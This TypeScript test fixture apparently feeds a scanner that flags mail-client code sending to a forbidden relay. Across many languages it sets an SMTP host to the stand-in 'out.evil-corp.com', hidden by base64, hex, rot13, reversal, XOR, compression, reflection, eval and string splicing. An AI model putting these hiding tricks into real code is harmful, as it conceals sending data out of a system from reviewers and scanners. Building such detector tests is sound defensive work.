/**
 * Programs that write the host, the key or the library so that it does not stand there as such. Each must be stopped: as the
 * host that it comes to, or as one that is hidden. What they stand for is said by their names.
 */
import type { Files } from '../repository.ts';

export const EVIL = 'out.evil-corp.com';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string): string => [...text].map((letter) => letter.charCodeAt(0)).join(', ');
const reversed = [...EVIL].reverse().join('');
const rot13 = 'bhg.rivy-pbec.pbz';

const js = (host: string): Files => ({
  'app/m.js': `const n = require('nodemailer');\nn.createTransport({ host: ${host} });\n`,
});
const python = (host: string, before = ''): Files => ({
  'app/m.py': `import base64, binascii, codecs, smtplib, urllib.parse, zlib\n${before}s = smtplib.SMTP(${host})\n`,
});
const php = (host: string, before = ''): Files => ({
  'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n${before}$m->Host = ${host};\n`,
});
const ruby = (host: string, before = ''): Files => ({
  'app/m.rb': `require 'net/smtp'\nrequire 'base64'\n${before}Net::SMTP.start(${host}, 25)\n`,
});
const java = (host: string, before = ''): Files => ({
  'app/M.java': `import org.apache.commons.mail.SimpleEmail;\nimport java.util.*;\nclass M {\n  void send() {\n    SimpleEmail email = new SimpleEmail();\n${before}    email.setHostName(${host});\n  }\n}\n`,
});
const kotlin = (host: string): Files => ({
  'app/M.kt': `import org.apache.commons.mail.SimpleEmail\nimport java.util.Base64\nfun send() {\n    val email = SimpleEmail()\n    email.setHostName(${host})\n}\n`,
});
const csharp = (host: string, before = ''): Files => ({
  'app/M.cs': `using System;\nusing System.Net.Mail;\nusing System.Text;\nclass M {\n  void Send() {\n${before}    var c = new SmtpClient(${host}, 25);\n  }\n}\n`,
});
const go = (host: string, before = ''): Files => ({
  'app/m.go': `package main\n\nimport (\n\t"encoding/base64"\n\t"encoding/hex"\n\t"net/smtp"\n\t"strings"\n)\n\nfunc main() {\n${before}\tc, _ := smtp.Dial(${host} + ":25")\n\t_ = c\n}\n`,
});
const rust = (host: string): Files => ({
  'app/src/main.rs': `use lettre::SmtpTransport;\nfn main() {\n    let m = SmtpTransport::relay(${host}).unwrap().build();\n}\n`,
});
const elixir = (host: string): Files => ({
  'app/config/prod.exs': `import Config\nconfig :app, App.Mailer, adapter: Swoosh.Adapters.SMTP, relay: ${host}, port: 25\n`,
});
const perl = (host: string, before = ''): Files => ({
  'app/m.pl': `use Net::SMTP;\nuse MIME::Base64;\n${before}my $s = Net::SMTP->new(${host});\n`,
});
const powershell = (host: string, before = ''): Files => ({
  'app/m.ps1': `${before}Send-MailMessage -To a@b.example -From c@d.example -Subject x -SmtpServer ${host}\n`,
});
const bash = (host: string, before = ''): Files => ({
  'deploy/run.sh': `#!/bin/bash\n${before}export SMTP_HOST=${host}\n`,
});
const scala = (host: string): Files => ({
  'app/M.scala': `import org.apache.commons.mail._\nobject M {\n  def send() = {\n    val email = new SimpleEmail()\n    email.setHostName(${host})\n  }\n}\n`,
});
const groovy = (host: string): Files => ({
  'app/M.groovy': `import org.apache.commons.mail.SimpleEmail\ndef email = new SimpleEmail()\nemail.setHostName(${host})\n`,
});

/** Those whose host is worked out. */
export const shown: Readonly<Record<string, Files>> = {
  // JavaScript: texts
  'js, escapes of every kind': js(String.raw`'\x6f\u0075\u{74}\56evil-corp.com'`),
  'js, a list joined': js(`['out', 'evil-corp', 'com'].join('.')`),
  'js, concat': js(`'out.'.concat('evil-', 'corp.com')`),
  'js, replace': js(`'out_evil-corp.com'.replace('_', '.')`),
  'js, replaceAll': js(`'out_evil-corp_com'.replaceAll('_', '.')`),
  'js, replace by an expression': js(`'out_evil-corp_com'.replace(/_/g, '.')`),
  'js, split and join': js(`'out_evil-corp_com'.split('_').join('.')`),
  'js, turned around': js(`'${reversed}'.split('').reverse().join('')`),
  'js, turned around by spreading': js(`[...'${reversed}'].reverse().join('')`),
  'js, atob': js(`atob('${base64(EVIL)}')`),
  'js, a Buffer of base64': js(`Buffer.from('${base64(EVIL)}', 'base64').toString('utf8')`),
  'js, a Buffer of hexadecimal': js(`Buffer.from('${hex(EVIL)}', 'hex').toString()`),
  'js, a Buffer of bytes': js(`Buffer.from([${codes(EVIL)}]).toString()`),
  'js, characters of codes': js(`String.fromCharCode(${codes(EVIL)})`),
  'js, characters of a spread list': js(`String.fromCharCode(...[${codes(EVIL)}])`),
  'js, codes mapped': js(`[${codes(EVIL)}].map((c) => String.fromCharCode(c)).join('')`),
  'js, decodeURIComponent': js(`decodeURIComponent('out%2Eevil-corp%2ecom')`),
  'js, unescape': js(`unescape('out%u002eevil-corp.com')`),
  'js, slices': js(`'xx${EVIL}yy'.slice(2, -2)`),
  'js, substring of an approved name': js(`'new-${EVIL}'.substring(4)`),
  'js, JSON in base64': js(`JSON.parse(atob('${base64(`{"a":{"b":"${EVIL}"}}`)}')).a.b`),
  'js, JSON in a text': js(`JSON.parse('{"a":"${EVIL}"}').a`),
  'js, base64 of base64': js(`atob(atob('${base64(base64(EVIL))}'))`),
  'js, a template of parts': js("`${'out'}.${['evil', 'corp'].join('-')}.com`"),
  'js, a function that decodes': {
    'app/m.js': `const d = (s) => Buffer.from(s, 'base64').toString();\nrequire('nodemailer').createTransport({ host: d('${base64(EVIL)}') });\n`,
  },
  'js, a line continued in a text': js("'out.\\\nevil-corp.com'"),
  'js, carriage returns alone': {
    'app/m.js': `// x\rconst n = require('nodemailer');\rn.createTransport({ host: '${EVIL}' });\r`,
  },
  'js, line separators of Unicode': {
    'app/m.js': `// a\u2028const n = require('nodemailer');\u2028n.createTransport({ host: '${EVIL}' });\n`,
  },
  'js, behind a comment of HTML': {
    'app/m.js': `<!-- x\nconst n = require('nodemailer');\nn.createTransport({ host: '${EVIL}' });\n`,
  },
  'js, behind what is broken': {
    'app/m.js': `const n = require('nodemailer');\nlet = = ;\nfunction ( {\nn.createTransport({ host: '${EVIL}' });\n`,
  },
  'js, names with escapes': {
    'app/m.js': `const n = require('nodemailer');\nn.createTr\\u0061nsport({ h\\u006fst: '${EVIL}' });\n`,
  },
  // JavaScript: names
  'js, a computed method': {
    'app/m.js': `const n = require('nodemailer');\nn['create' + 'Transport']({ ['ho' + 'st']: '${EVIL}' });\n`,
  },
  'js, a method by a variable': {
    'app/m.js': `const n = require('nodemailer');\nconst k = ['create', 'Transport'].join('');\nn[k]({ host: '${EVIL}' });\n`,
  },
  'js, a module in pieces': { 'app/m.js': `require('node' + 'mailer').createTransport({ host: '${EVIL}' });\n` },
  'js, a module in base64': {
    'app/m.js': `require(atob('${base64('nodemailer')}'))['createTransport']({ host: '${EVIL}' });\n`,
  },
  'js, a module with escapes': { 'app/m.js': `require('node\\u006dailer').createTransport({ host: '${EVIL}' });\n` },
  'js, Reflect.get': {
    'app/m.js': `const n = require('nodemailer');\nReflect.get(n, 'createTransport')({ host: '${EVIL}' });\n`,
  },
  'js, call': { 'app/m.js': `const n = require('nodemailer');\nn.createTransport.call(n, { host: '${EVIL}' });\n` },
  'js, apply': { 'app/m.js': `const n = require('nodemailer');\nn.createTransport.apply(n, [{ host: '${EVIL}' }]);\n` },
  'js, Reflect.apply': {
    'app/m.js': `const n = require('nodemailer');\nReflect.apply(n.createTransport, n, [{ host: '${EVIL}' }]);\n`,
  },
  'js, bind': { 'app/m.js': `const n = require('nodemailer');\nn.createTransport.bind(n)({ host: '${EVIL}' });\n` },
  'js, a sequence': { 'app/m.js': `const n = require('nodemailer');\n(0, n.createTransport)({ host: '${EVIL}' });\n` },
  'js, a key that is set by a variable': {
    'app/m.js': `const n = require('nodemailer');\nconst k = 'h' + 'ost';\nconst o = {};\no[k] = '${EVIL}';\nn.createTransport(o);\n`,
  },
  'js, Object.fromEntries': {
    'app/m.js': `const n = require('nodemailer');\nn.createTransport(Object.fromEntries([['host', '${EVIL}']]));\n`,
  },
  'ts, a cast and a non-null': {
    'app/m.ts': `import n from 'nodemailer';\n(n as any)['createTransport']!({ host: <string>'${EVIL}' } as any);\n`,
  },
  // Python
  'python, texts beside each other': python(`"out." 'evil-' "corp.com"`),
  'python, join': python(`".".join(["out", "evil-corp", "com"])`),
  'python, b64decode': python(`base64.b64decode("${base64(EVIL)}").decode()`),
  'python, b64decode of bytes': python(`base64.b64decode(b"${base64(EVIL)}").decode("utf-8")`),
  'python, fromhex': python(`bytes.fromhex("${hex(EVIL)}").decode()`),
  'python, unhexlify': python(`binascii.unhexlify("${hex(EVIL)}").decode()`),
  'python, rot13': python(`codecs.decode("${rot13}", "rot13")`),
  'python, turned around': python(`"${reversed}"[::-1]`),
  'python, reversed': python(`"".join(reversed("${reversed}"))`),
  'python, chr': python(`chr(111) + "ut.evil-corp.com"`),
  'python, map of chr': python(`"".join(map(chr, [${codes(EVIL)}]))`),
  'python, bytes of codes': python(`bytes([${codes(EVIL)}]).decode()`),
  'python, unquote': python(`urllib.parse.unquote("out%2eevil-corp.com")`),
  'python, replace': python(`"out_evil-corp_com".replace("_", ".")`),
  'python, format': python(`"{}.{}.com".format("out", "evil-corp")`),
  'python, percent': python(`"%s.%s.com" % ("out", "evil-corp")`),
  'python, a slice': python(`"xx${EVIL}"[2:]`),
  'python, named characters': python(String.raw`"out\N{FULL STOP}evil-corp.com"`),
  'python, getattr': { 'app/m.py': `import smtplib\ns = getattr(smtplib, "SM" + "TP")("${EVIL}")\n` },
  'python, getattr by a variable': {
    'app/m.py': `import smtplib\nname = "SM" "TP"\ns = getattr(smtplib, name)("${EVIL}")\n`,
  },
  'python, __dict__': { 'app/m.py': `import smtplib\ns = smtplib.__dict__["SMTP"]("${EVIL}")\n` },
  'python, vars': { 'app/m.py': `import smtplib\ns = vars(smtplib)["SMTP"]("${EVIL}")\n` },
  'python, __import__': { 'app/m.py': `s = __import__("smtp" + "lib").SMTP("${EVIL}")\n` },
  'python, import_module': {
    'app/m.py': `import importlib\nm = importlib.import_module("smtplib")\ns = m.SMTP("${EVIL}")\n`,
  },
  'python, globals': { 'app/m.py': `import smtplib\ns = globals()["smtplib"].SMTP("${EVIL}")\n` },
  'python, another name': { 'app/m.py': `from smtplib import SMTP as X\nY = X\ns = Y("${EVIL}")\n` },
  'python, a class of one’s own': {
    'app/m.py': `import smtplib\nclass A(smtplib.SMTP):\n    pass\ns = A("${EVIL}")\n`,
  },
  'python, connect later': { 'app/m.py': `import smtplib\ns = smtplib.SMTP()\ngetattr(s, "connect")("${EVIL}", 25)\n` },
  'python, under another encoding': {
    'app/m.py': `# -*- coding: utf-7 -*-\nimport smtplib\ns = smtplib.SMTP("${EVIL}")\n`,
  },
  // PHP
  'php, a heredoc': php(`<<<X\n${EVIL}\nX`),
  'php, a short tag': { 'app/m.php': `<? $m = new PHPMailer\\PHPMailer\\PHPMailer(); $m->Host = '${EVIL}'; ?>` },
  'php, chr': php(`chr(111) . 'ut.evil-corp.com'`),
  'php, base64_decode': php(`base64_decode('${base64(EVIL)}')`),
  'php, hex2bin': php(`hex2bin('${hex(EVIL)}')`),
  'php, pack': php(`pack('H*', '${hex(EVIL)}')`),
  'php, strrev': php(`strrev('${reversed}')`),
  'php, str_rot13': php(`str_rot13('${rot13}')`),
  'php, implode': php(`implode('.', ['out', 'evil-corp', 'com'])`),
  'php, implode of a variable': php(`implode('.', $parts)`, `$parts = ['out', 'evil-corp', 'com'];\n`),
  'php, str_replace': php(`str_replace('_', '.', 'out_evil-corp_com')`),
  'php, strtr': php(`strtr('out_evil-corp_com', '_', '.')`),
  'php, urldecode': php(`urldecode('out%2Eevil-corp.com')`),
  'php, substr': php(`substr('xx${EVIL}yy', 2, -2)`),
  'php, sprintf': php(`sprintf('%s.%s.com', 'out', 'evil-corp')`),
  'php, extract': php('$hop', `extract(['hop' => '${EVIL}']);\n`),
  'php, codes mapped': php(`implode('', array_map('chr', [${codes(EVIL)}]))`),
  'php, escapes': php(String.raw`"\x6fut\56evil-corp\u{2e}com"`),
  'php, a property in pieces': {
    'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->{'Ho' . 'st'} = '${EVIL}';\n`,
  },
  'php, a property by a variable': {
    'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$p = 'Host';\n$m->$p = '${EVIL}';\n`,
  },
  'php, a class by a variable': {
    'app/m.php': `<?php\n$c = 'PHPMailer\\\\PHPMailer\\\\PHPMailer';\n$m = new $c();\n$m->Host = '${EVIL}';\n`,
  },
  'php, a class in pieces': { 'app/m.php': `<?php\n$c = 'PHP' . 'Mailer';\n$m = new $c;\n$m->Host = '${EVIL}';\n` },
  'php, a function by a variable': { 'app/m.php': `<?php\n$f = 'ini' . '_set';\n$f('SMTP', '${EVIL}');\n` },
  'php, call_user_func': { 'app/m.php': `<?php\ncall_user_func('ini_set', 'SMTP', '${EVIL}');\n` },
  'php, ini_set in pieces': { 'app/m.php': `<?php\nini_set('SM' . 'TP', '${EVIL}');\n` },
  // Ruby
  'ruby, Base64': ruby(`Base64.decode64('${base64(EVIL)}')`),
  'ruby, unpack1': ruby(`'${base64(EVIL)}'.unpack1('m')`),
  'ruby, pack': ruby(`['${hex(EVIL)}'].pack('H*')`),
  'ruby, pack of codes': ruby(`[${codes(EVIL)}].pack('c*')`),
  'ruby, reverse': ruby(`'${reversed}'.reverse`),
  'ruby, join': ruby(`%w[out evil-corp com].join('.')`),
  'ruby, a text between the items of a list': ruby(`%w[out evil-corp com] * '.'`),
  'ruby, tr': ruby(`'out_evil-corp_com'.tr('_', '.')`),
  'ruby, gsub': ruby(`'out_evil-corp_com'.gsub('_', '.')`),
  'ruby, chr': ruby(`111.chr + 'ut.evil-corp.com'`),
  'ruby, escapes': ruby(String.raw`"\x6fut\u002eevil\055corp.com"`),
  'ruby, texts beside each other': ruby(`'out.' "evil-corp" '.com'`),
  'ruby, send': { 'app/m.rb': `require 'net/smtp'\nNet::SMTP.send(:start, '${EVIL}', 25)\n` },
  'ruby, public_send in pieces': {
    'app/m.rb': `require 'net/smtp'\nNet::SMTP.public_send('st' + 'art', '${EVIL}', 25)\n`,
  },
  'ruby, const_get': { 'app/m.rb': `require 'net/smtp'\nObject.const_get('Net::SMTP').start('${EVIL}', 25)\n` },
  // Java, Kotlin, Scala, Groovy
  'java, a decoder': java(`new String(Base64.getDecoder().decode("${base64(EVIL)}"))`),
  'java, String.join': java(`String.join(".", "out", "evil-corp", "com")`),
  'java, String.join of a list': java(`String.join(".", List.of("out", "evil-corp", "com"))`),
  'java, concat': java(`"out.".concat("evil-corp.com")`),
  'java, replace': java(`"out_evil-corp_com".replace('_', '.')`),
  'java, a builder turned around': java(`new StringBuilder("${reversed}").reverse().toString()`),
  'java, a builder': java(`new StringBuilder("out.").append("evil-corp").append(".com").toString()`),
  'java, bytes': java(`new String(new byte[] {${codes(EVIL)}})`),
  'java, URLDecoder': java(`java.net.URLDecoder.decode("out%2Eevil-corp.com", "UTF-8")`),
  'java, escapes': java(String.raw`"out\u002eevil\55corp.com"`),
  'kotlin, a decoder': kotlin(`String(Base64.getDecoder().decode("${base64(EVIL)}"))`),
  'kotlin, joinToString': kotlin(`listOf("out", "evil-corp", "com").joinToString(".")`),
  'kotlin, reversed': kotlin(`"${reversed}".reversed()`),
  'kotlin, replace': kotlin(`"out_evil-corp_com".replace("_", ".")`),
  'scala, mkString': scala(`List("out", "evil-corp", "com").mkString(".")`),
  'scala, reverse': scala(`"${reversed}".reverse`),
  'groovy, join': groovy(`['out', 'evil-corp', 'com'].join('.')`),
  'groovy, reverse': groovy(`'${reversed}'.reverse()`),
  'groovy, decodeBase64': groovy(`new String('${base64(EVIL)}'.decodeBase64())`),
  // .NET
  'c#, Convert': csharp(`Encoding.UTF8.GetString(Convert.FromBase64String("${base64(EVIL)}"))`),
  'c#, a text of characters': csharp(`new string("${reversed}".Reverse().ToArray())`),
  'c#, Join': csharp(`string.Join(".", new[] { "out", "evil-corp", "com" })`),
  'c#, Concat': csharp(`string.Concat("out.", "evil-corp", ".com")`),
  'c#, Replace': csharp(`"out_evil-corp_com".Replace("_", ".")`),
  'c#, bytes': csharp(`Encoding.ASCII.GetString(new byte[] { ${codes(EVIL)} })`),
  'c#, escapes': csharp(String.raw`"\x6fut\u002eevil-corp.com"`),
  'c#, escapes outside of texts': {
    'app/M.cs': `using System.Net.Mail;\nclass M { void Send() { var c = new SmtpClient(); c.H\\u006fst = "${EVIL}"; } }\n`,
  },
  // Go
  'go, base64': go('string(b)', `\tb, _ := base64.StdEncoding.DecodeString("${base64(EVIL)}")\n`),
  'go, hex': go('string(b)', `\tb, _ := hex.DecodeString("${hex(EVIL)}")\n`),
  'go, bytes': go(`string([]byte{${codes(EVIL)}})`),
  'go, Join': go(`strings.Join(parts, ".")`, `\tparts := []string{"out", "evil-corp", "com"}\n`),
  'go, ReplaceAll': go(`strings.ReplaceAll("out_evil-corp_com", "_", ".")`),
  'go, escapes': go(String.raw`"\x6fut\056evil-corp\u002ecom"`),
  // Rust, Elixir
  'rust, concat': rust(`&["out", "evil-corp", "com"].join(".")`),
  'rust, concat!': rust(`concat!("out", ".evil-corp", ".com")`),
  'rust, replace': rust(`&"out_evil-corp_com".replace("_", ".")`),
  'rust, turned around': rust(`&"${reversed}".chars().rev().collect::<String>()`),
  'rust, escapes': rust(String.raw`"\x6fut\u{2e}evil-corp.com"`),
  'elixir, Base': elixir(`Base.decode64!("${base64(EVIL)}")`),
  'elixir, join': elixir(`Enum.join(["out", "evil-corp", "com"], ".")`),
  'elixir, reverse': elixir(`String.reverse("${reversed}")`),
  'elixir, replace': elixir(`String.replace("out_evil-corp_com", "_", ".")`),
  'elixir, a pipe': elixir(`"${base64(EVIL)}" |> Base.decode64!()`),
  'elixir, codes': elixir(`List.to_string([${codes(EVIL)}])`),
  'elixir, a binary': elixir(`<<${codes(EVIL)}>>`),
  // Perl
  'perl, decode_base64': perl(`decode_base64('${base64(EVIL)}')`),
  'perl, pack': perl(`pack('H*', '${hex(EVIL)}')`),
  'perl, join': perl(`join('.', 'out', 'evil-corp', 'com')`),
  'perl, reverse': perl(`scalar reverse('${reversed}')`),
  'perl, chr': perl(`chr(111) . 'ut.evil-corp.com'`),
  'perl, escapes': perl(String.raw`"\x6fut\x{2e}evil\055corp.com"`),
  'perl, a class in a text': { 'app/m.pl': `use Net::SMTP;\nmy $s = 'Net::SMTP'->new('${EVIL}');\n` },
  'perl, a class by a variable': {
    'app/m.pl': `use Net::SMTP;\nmy $c = 'Net::' . 'SMTP';\nmy $s = $c->new('${EVIL}');\n`,
  },
  'perl, a method by a variable': { 'app/m.pl': `use Net::SMTP;\nmy $m = 'new';\nmy $s = Net::SMTP->$m('${EVIL}');\n` },
  // Shells
  'bash, backslashes': bash(String.raw`out.ev\il-corp.com`),
  'bash, an ANSI-C quote': bash(String.raw`$'out\x2eevil-corp\056com'`),
  'bash, pieces': bash(`out.ev''il-co"rp.c"om`),
  'bash, a line continued in quotes': bash('"out.evil-\\\ncorp.com"'),
  'bash, base64': bash(`$(echo ${base64(EVIL)} | base64 -d)`),
  'bash, base64 of a here-string': bash(`$(base64 -d <<< ${base64(EVIL)})`),
  'bash, rev': bash(`"$(echo ${reversed} | rev)"`),
  'bash, tr': bash(`$(echo out_evil-corp_com | tr _ .)`),
  'bash, printf': bash(String.raw`$(printf 'out\x2eevil-corp.com')`),
  'bash, backquotes': bash(`\`echo ${base64(EVIL)} | base64 -d\``),
  'bash, a parameter replaced': bash('${X//_/.}', 'X=out_evil-corp_com\n'),
  'bash, eval': { 'deploy/run.sh': `#!/bin/bash\neval "export SMTP_HOST=${EVIL}"\n` },
  'bash, a command in pieces': { 'deploy/run.sh': `#!/bin/bash\nsw''aks --server ${EVIL} --to a@b.example\n` },
  'bash, a command by a variable': { 'deploy/run.sh': `#!/bin/bash\nC=swaks\n$C --server ${EVIL} --to a@b.example\n` },
  'powershell, -join': powershell(`('out','evil-corp','com' -join '.')`),
  'powershell, base64': powershell(`([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(EVIL)}')))`),
  'powershell, -f': powershell(`('{0}.{1}.com' -f 'out','evil-corp')`),
  'powershell, Replace': powershell(`('out_evil-corp_com'.Replace('_','.'))`),
  'powershell, -replace': powershell(`('out_evil-corp_com' -replace '_','.')`),
  'powershell, char': powershell(`([char]111 + 'ut.evil-corp.com')`),
  'powershell, backticks': powershell('out.ev`il-corp.com'),
  'powershell, a class in pieces': {
    'app/m.ps1': `$c = New-Object ('Net.Mail.' + 'SmtpClient')\n$c.Host = '${EVIL}'\n`,
  },
  'powershell, splatting': {
    'app/m.ps1': `$a = @{ 'SmtpServer' = '${EVIL}'; To = 'a@b.example' }\nSend-MailMessage @a\n`,
  },

  // Ends taken off, and entries set in a loop.
  'bash, an end cut off': bash('${X%.new-relay.corp.example}', `X=${EVIL}.new-relay.corp.example\n`),
  'bash, a long end cut off': bash('${X%%:*}', `X=${EVIL}:new-relay.corp.example:25\n`),
  'bash, a front cut off': bash('${X#*:}', `X=new-relay.corp.example:${EVIL}\n`),
  'bash, a long front cut off': bash('${X##*/}', `X=new-relay.corp.example/a/${EVIL}\n`),
  'python, strip of characters': python(`"xyz${EVIL}zyx".strip("xyz")`),
  'python, removeprefix': python(`"new-relay.corp.example.${EVIL}".removeprefix("new-relay.corp.example.")`),
  'php, trim of characters': php(`trim('##${EVIL}##', '#')`),
  'php, ltrim of characters': php(`ltrim('xx${EVIL}', 'x')`),
  'csharp, Trim of characters': csharp(`"##${EVIL}##".Trim('#')`),
  'ruby, delete': ruby(`'#out.#evil-corp.com'.delete('#')`),
  'ruby, delete_prefix': ruby(`'xx${EVIL}'.delete_prefix('xx')`),
  'go, Trim of characters': {
    'app/m.go': `package main\n\nimport (\n\t"net/smtp"\n\t"strings"\n)\n\nfunc main() {\n\tsmtp.Dial(strings.Trim("##${EVIL}:25##", "#"))\n}\n`,
  },
  'php, entries set in a loop': {
    'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$with = array('Host' => '${EVIL}', 'Port' => 25);\nforeach ($with as $key => $value) {\n    $m->{$key} = $value;\n}\n`,
  },
  'js, entries set in a loop': {
    'app/m.js': `const o = {};\nfor (const [k, v] of Object.entries({ host: '${EVIL}' })) o[k] = v;\nrequire('nodemailer').createTransport(o);\n`,
  },
  'js, keys set in a loop': {
    'app/m.js': `const from = { host: '${EVIL}' };\nconst o = {};\nfor (const k in from) o[k] = from[k];\nrequire('nodemailer').createTransport(o);\n`,
  },
  'js, defineProperty': {
    'app/m.js': `const o = {};\nObject.defineProperty(o, 'host', { value: '${EVIL}', enumerable: true });\nrequire('nodemailer').createTransport(o);\n`,
  },
  'js, Reflect.set': {
    'app/m.js': `const o = {};\nReflect.set(o, 'host', '${EVIL}');\nrequire('nodemailer').createTransport(o);\n`,
  },
};

/** Those that are only known to be hidden. */
export const hidden: Readonly<Record<string, Files>> = {
  'js, codes that are computed': js(`[${codes(EVIL)}].map((c) => String.fromCharCode(c ^ 1)).join('')`),
  'js, a loop over characters': {
    'app/m.js': `function d(s) {\n  let r = '';\n  for (const c of s) r += String.fromCharCode(c.charCodeAt(0) ^ 1);\n  return r;\n}\nrequire('nodemailer').createTransport({ host: d('ntu/dwhm') });\n`,
  },
  'js, reduced': js(`'ntu/dwhm'.split('').reduce((a, c) => a + String.fromCharCode(c.charCodeAt(0) - 1), '')`),
  'js, decompressed': js(
    `require('zlib').gunzipSync(Buffer.from('H4sIAAAAAAAAA8svLdFLLcvM0U3OLyrQS87PBQBl8T8rEQAAAA==', 'base64')).toString()`,
  ),
  'js, a replacement by a function': js(`'ntu/dwhm'.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) - 1))`),
  'js, beside an approved one': {
    'app/m.js': `const n = require('nodemailer');\nn.createTransport({ host: process.env.X ? 'new-relay.corp.example' : 'ntu/dwhm'.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) - 1)) });\n`,
  },
  'python, codes that are computed': python(`"".join(chr(ord(c) ^ 1) for c in "ntu/dwhm")`),
  'python, translate': python(`"ntu/dwhm".translate(str.maketrans("ntdwhm/", "outevil"))`),
  'python, decompressed': python(`zlib.decompress(base64.b64decode("eJzLLy3RSy3LzNFNzi8q0EvOzwUANIAF8Q==")).decode()`),
  'php, gzinflate': php(`gzinflate(base64_decode('yy8t0Ustyyw11U3OLyrQS87PBQA='))`),
  'php, a map of replacements': php(`strtr('1.2-corp.com', ['1' => 'out', '2' => 'evil'])`),
  'js, every second letter': js(`[...'ouuetm.dehvhill'].filter((_, i) => i % 2 === 0).join('')`),
  'python, every second letter': python(`"ouuetm.dehvhill"[::2]`),
  'python, a template': {
    'app/m.py': `import smtplib\nfrom string import Template\nsmtplib.SMTP(Template("out.$d").substitute(d="evil-corp.com"), 25)\n`,
  },
  'php, serialized': php(`unserialize('a:1:{s:3:"hop";s:17:"${EVIL}";}')['hop']`),
  'go, a replacer': go(`strings.NewReplacer("X", "evil").Replace("out.X-corp.com")`),
  'ruby, codes that are computed': ruby(`'ntu/dwhm'.bytes.map { |b| (b ^ 1).chr }.join`),
};

/** Those that are not read to their end. */
export const unread: Readonly<Record<string, Files>> = {
  'java, escapes outside of texts': {
    'app/M.java': `class M {\n  void send() {\n    org.apache.commons.mail.SimpleEmail email = new org.apache.commons.mail.SimpleEmail();\n    email.setH\\u006fstName("${EVIL}");\n  }\n}\n`,
  },
};
